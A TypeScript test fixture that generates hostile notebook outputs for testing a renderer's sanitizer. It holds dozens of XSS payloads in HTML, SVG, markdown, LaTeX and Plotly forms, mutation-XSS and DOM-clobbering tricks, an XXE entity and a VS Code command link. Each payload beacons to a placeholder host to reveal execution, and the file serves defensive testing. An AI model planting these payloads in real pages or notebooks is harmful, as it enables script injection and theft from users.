// Outputs that would run something or tell a server who reads the notebook, were they let. Every one is a known way in.

/** The server that a successful attack asks (there is none of that name), and what it sets on the window it runs in. */
export const canaryHost = "canary.invalid";
export const canaryName = "nbreadyCanary";

/** By type: what a stranger's notebook may hold. */
export function hostileOutputs(): readonly Readonly<Record<string, unknown>>[] {
  let count = 0;
  /** A request of its own for each payload, so that a failure names it. */
  const address = (): string => `https://${canaryHost}/${++count}`;
  const run = (): string => `window.${canaryName}=1;top.${canaryName}=1;fetch('${address()}');new Image().src='${address()}'`;
  const html = (text: string) => ({ "text/html": text });
  const svg = (text: string) => ({
    "image/svg+xml": `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="20" height="20">${text}</svg>`,
  });
  return [
    html(`<script>${run()}</script>`),
    html(`<script src="${address()}.js"></script>`),
    html(`<script type="module">import "${address()}.js"</script>`),
    html(`<img src=x onerror="${run()}">`),
    html(`<img src="${address()}.png">`),
    html(`<img srcset="${address()}.png 1x" src="">`),
    html(`<picture><source srcset="${address()}.png"><img src=""></picture>`),
    html(`<body onload="${run()}">`),
    html(`<svg onload="${run()}"></svg>`),
    html(`<svg><script>${run()}</script></svg>`),
    html(`<svg><animate onbegin="${run()}" attributeName="x" dur="1s"></svg>`),
    html(`<svg><image href="${address()}.png"></svg>`),
    html(`<svg><use href="${address()}.svg#x"></use></svg>`),
    html(`<svg><foreignObject><iframe srcdoc="<script>parent.${canaryName}=1</script>"></iframe></foreignObject></svg>`),
    html(`<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror=${run()}>">`),
    html(`<math href="javascript:${run()}">click</math>`),
    html(`<form><math><mtext></form><form><mglyph><style></math><img src onerror="${run()}">`),
    html(`<noscript><p title="</noscript><img src=x onerror=${run()}>">`),
    html(`<iframe src="javascript:${run()}"></iframe>`),
    html(`<iframe srcdoc="<script>${run()}</script>"></iframe>`),
    html(`<iframe src="${address()}"></iframe>`),
    html(`<object data="${address()}.svg"></object>`),
    html(`<embed src="${address()}.svg">`),
    html(`<object data="data:text/html,<script>${run()}</script>"></object>`),
    html(`<link rel="stylesheet" href="${address()}.css">`),
    html(
      `<link rel="prefetch" href="${address()}"><link rel="dns-prefetch" href="${address()}"><link rel="preconnect" href="${address()}">`,
    ),
    html(`<style>@import url("${address()}.css"); body { background: url("${address()}.png") }</style>`),
    html(`<div style="background:url('${address()}.png')">styled</div>`),
    html(`<meta http-equiv="refresh" content="0;url=${address()}">`),
    html(`<base href="${address()}/"><img src="relative.png">`),
    html(`<a href="javascript:${run()}">click</a>`),
    html(`<a href="data:text/html,<script>${run()}</script>">click</a>`),
    html(`<a href="command:workbench.action.terminal.new">click</a>`),
    html(`<a href="vbscript:msgbox(1)" ping="${address()}">click</a>`),
    html(`<form action="${address()}"><input autofocus onfocus="${run()}"><button formaction="javascript:${run()}">click</button></form>`),
    html(`<details open ontoggle="${run()}"><summary>more</summary></details>`),
    html(`<video src="${address()}.mp4" poster="${address()}.png" autoplay onerror="${run()}"></video>`),
    html(`<audio src="${address()}.mp3" autoplay onerror="${run()}"></audio>`),
    html(`<table background="${address()}.png"><tr><td background="${address()}.png">cell</td></tr></table>`),
    html(`<template shadowrootmode="open"><img src=x onerror="${run()}"></template>`),
    html(`<div id="rows"><div id="summary">dressed up</div></div><form name="body"><input name="querySelector"></form>`),
    html(`<xss id=x tabindex=1 onfocus="${run()}" autofocus></xss>`),
    html(`<marquee onstart="${run()}">run</marquee>`),
    svg(`<script>${run()}</script>`),
    svg(`<image href="${address()}.png" width="9" height="9"/><image xlink:href="${address()}.png" width="9" height="9"/>`),
    svg(`<style>@import url(${address()}.css);</style><rect width="9" height="9" onload="${run()}" style="fill:url(${address()}.svg#x)"/>`),
    svg(
      `<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml"><script>${run()}</script><iframe src="${address()}"/></body></foreignObject>`,
    ),
    svg(`<a href="javascript:${run()}"><text>click</text></a><use href="${address()}.svg#x"/>`),
    {
      "image/svg+xml": `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "${address()}">]><?xml-stylesheet href="${address()}.css"?><svg xmlns="http://www.w3.org/2000/svg"><text>&xxe;</text></svg>`,
    },
    { "image/png": `" onerror="${run()}` },
    { "image/jpeg;x": `${address()}` },
    { "application/javascript": run() },
    { "text/markdown": `![](${address()}.png) <img src=x onerror="${run()}"> [click](javascript:${run()})` },
    { "text/latex": `\\href{javascript:${run()}}{click} \\includegraphics{${address()}.png}` },
    {
      "application/vnd.plotly.v1+json": {
        data: [],
        layout: { images: [{ source: `${address()}.png` }], title: `<img src=x onerror="${run()}">` },
      },
    },
    { "text/plain": `<img src=x onerror="${run()}">` },
  ];
}
